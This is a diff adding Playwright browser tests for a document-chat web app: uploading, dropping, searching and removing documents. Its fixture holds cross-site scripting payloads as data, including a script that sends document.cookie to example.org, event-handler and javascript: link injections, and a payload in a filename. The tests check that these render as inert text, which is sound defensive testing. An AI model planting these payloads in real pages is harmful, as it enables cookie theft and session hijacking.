@@ -1,0 +1,147 @@
+"""The chat page: documents listed, searched, added and removed, and hostile ones that run nothing."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from playwright.sync_api import Page, expect
+
+from tests.command import here
+from tests.faces.web.browsing import ask, highlighted, start
+from tests.faces.web.serving import Served
+
+HOSTILE = """# <img src=x onerror=alert(1)> Notes on the ferry <script>alert(document.domain)</script>
+
+<script>fetch('https://example.org/?' + document.cookie)</script>
+<img src="https://example.org/pixel.png" onerror="alert('onerror')">
+<a href="javascript:alert('link')">click</a> [click](javascript:alert(1)) <svg onload=alert(2)>
+<iframe src="https://example.org/"></iframe><style>body { display: none }</style>
+
+The ferry of Lorch costs 7 euros <b onmouseover="alert(3)">today</b> <script>alert(4)</script>.
+"""
+
+
+def upload(page: Page, *files: Path) -> None:
+    """Adds files by the button, and waits until they are indexed."""
+    with page.expect_file_chooser() as chosen:
+        page.get_by_role("button", name="Choose files").click()
+    chosen.value.set_files(files)
+    page.locator(".upload .what", has_text="ready to be asked").first.wait_for()
+
+
+def test_a_newcomer_adds_a_first_document_and_asks_about_it(page: Page, tmp_path: Path) -> None:
+    """An empty corpus offers to add documents; what is added can be asked about at once, and is listed."""
+    (tmp_path / "garden.md").write_text("# The garden\n\nThe pond of the garden was dug in 1954.\n")
+    start(page, "/?corpus=first")
+    expect(page.locator(".empty")).to_contain_text("There are no documents yet.")
+    with page.expect_file_chooser() as chosen:
+        page.get_by_role("button", name="Add documents").click()
+    chosen.value.set_files(tmp_path / "garden.md")
+    expect(page.locator(".upload .what")).to_have_text("1 file ready to be asked about.")
+    expect(page.locator(".outcome")).to_contain_text("garden.md added")
+    expect(page.locator(".documents li")).to_have_count(1)
+    expect(page.locator(".documents li")).to_contain_text("The garden")
+    page.get_by_role("link", name="New conversation").click()
+    expect(page.locator(".example").first).to_have_text("What does “The garden” say?")
+    answer = ask(page, "When was the pond dug?")
+    assert answer["points"][0]["short"] == "1954"
+    expect(page.locator(".short-answer")).to_have_text("1954")
+
+
+def test_files_can_be_dropped_anywhere(page: Page) -> None:
+    """Dropped on the chat, files are added, and the page stays."""
+    start(page, "/?corpus=dropped")
+    page.evaluate("""() => {
+        const carried = new DataTransfer();
+        carried.items.add(new File(['# Dropped\\n\\nThe kiln of Bray is red.\\n'], 'kiln.md'));
+        carried.items.add(new File(['MZ'], 'setup.exe'));
+        const over = new DragEvent('dragover', { dataTransfer: carried, bubbles: true, cancelable: true });
+        const drop = new DragEvent('drop', { dataTransfer: carried, bubbles: true, cancelable: true });
+        document.querySelector('.composer').dispatchEvent(over);
+        document.querySelector('.composer').dispatchEvent(drop);
+    }""")
+    expect(page.locator(".upload .what")).to_have_text("1 file ready to be asked about, 1 skipped.")
+    skipped = page.locator(".outcome li", has_text="setup.exe")
+    expect(skipped).to_contain_text("skipped")
+    assert len(skipped.inner_text()) > len("setup.exe skipped "), "says why"
+    expect(page.locator(".documents li")).to_have_count(1)
+
+
+def test_a_hostile_document_is_shown_as_the_text_it_is(page: Page, served: Served, tmp_path: Path) -> None:
+    """Scripts, handlers and links of a document are words: nothing runs, nothing is fetched, nothing is clickable.
+
+    That nothing ran and nothing was fetched, the fixture asserts for every page.
+    """
+    (tmp_path / "<img src=x onerror=alert(5)>.md").write_text(HOSTILE)
+    start(page, "/?view=documents&corpus=hostile")
+    upload(page, tmp_path / "<img src=x onerror=alert(5)>.md")
+    expect(page.locator(".documents li")).to_contain_text("alert(document.domain)")
+    page.locator(".documents .cite").click()
+    shown = page.locator("#source .text").evaluate("element => element.textContent")
+    assert shown == HOSTILE
+    assert page.locator("#source .text *").count() == 0
+    page.get_by_role("link", name="New conversation").click()
+    answer = ask(page, "How much does the ferry of Lorch cost?")
+    expect(page.locator(".turn .quote").first).to_contain_text('<b onmouseover="alert(3)">today</b>')
+    page.locator(".turn .cite").first.click()
+    assert highlighted(page) == answer["quotes"][0]["text"]
+    page.locator("#source mark.here").first.hover()
+    page.goto("/?view=documents&corpus=hostile")
+    page.get_by_label("Search names and texts").fill("ferry")
+    expect(page.locator(".passages .excerpt").first).to_contain_text("<script>")
+    inside = "script:not([src]), iframe, img, [onerror], [onmouseover], a[href^='javascript' i], style"
+    assert page.locator(f"body :is({inside})").count() == 0
+
+
+def test_a_hostile_address_is_no_link(page: Page, served: Served) -> None:
+    """A document's address is followed only where it is http or https."""
+    document = served.client.get("/api/documents").json()["documents"][0]
+    page.route(
+        "**/api/documents/feed*",
+        lambda route: route.fulfill(json={**document, "url": "javascript:alert(6)", "text": "One"}),
+    )
+    page.goto("/?document=feed&start=0&end=3&corpus=addresses")
+    assert highlighted(page) == "One"
+    expect(page.locator("#source .facts")).to_contain_text("javascript:alert(6)")
+    assert page.locator("#source .facts a").count() == 0
+
+
+def test_an_uploaded_document_can_be_removed(page: Page, tmp_path: Path) -> None:
+    """Only when it is confirmed; then it is gone from the list and from the answers."""
+    (tmp_path / "key.md").write_text("# The key\n\nThe key of the shed lies under the blue pot.\n")
+    start(page, "/?view=documents&corpus=removing")
+    upload(page, tmp_path / "key.md")
+    remove = page.get_by_role("button", name="Remove The key")
+    remove.click()
+    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
+    expect(page.locator(".documents li")).to_have_count(1)
+    remove.click()
+    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
+    expect(page.locator(".notice")).to_have_text("key.md is removed.")
+    expect(page.locator(".documents li")).to_have_count(0)
+
+
+def test_removing_what_a_folder_holds_says_how_long_it_lasts(page: Page, served: Served, tmp_path: Path) -> None:
+    """A document that an indexed folder still holds stays removed until it changes, and the page says so."""
+    folder = tmp_path / "papers"
+    folder.mkdir()
+    (folder / "will.md").write_text("# The will\n\nThe will names two heirs.\n")
+    (folder / "deed.md").write_text("# The deed\n\nThe deed was signed in May.\n")
+    assert here(served.home, "index", str(folder), "--corpus", "papers").status == 0
+    start(page, "/?view=documents&corpus=papers")
+    page.get_by_role("button", name="Remove The will").click()
+    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
+    expect(page.locator(".notice")).to_contain_text("stays removed until the file changes")
+    expect(page.locator(".documents li")).to_have_count(1)
+
+
+def test_names_and_texts_can_be_searched(page: Page) -> None:
+    """The list keeps what is named like that; below are passages about it, which open where they stand."""
+    start(page, "/?view=documents")
+    expect(page.locator(".documents li")).not_to_have_count(0)
+    page.get_by_label("Search names and texts").fill("Milestone")
+    expect(page.locator(".documents li")).to_have_count(1)
+    first = page.locator(".passages li").first
+    words = first.locator(".excerpt").inner_text()
+    first.get_by_role("link").click()
+    assert " ".join(highlighted(page).split()) == " ".join(words.split())
